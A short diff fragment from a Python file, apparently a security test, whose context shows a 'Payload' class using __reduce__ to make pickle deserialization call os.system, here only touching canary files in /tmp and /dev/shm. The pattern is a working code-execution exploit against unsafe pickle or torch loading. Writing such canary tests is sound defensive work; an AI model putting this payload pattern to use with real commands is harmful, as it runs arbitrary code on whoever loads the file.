@@ -10,6 +10,7 @@ import pickle
 
 import torch
 
+
 class Payload:
     def __reduce__(self):
         return os.system, ("touch /tmp/hazi-canary-pickle /dev/shm/hazi-canary-pickle",)
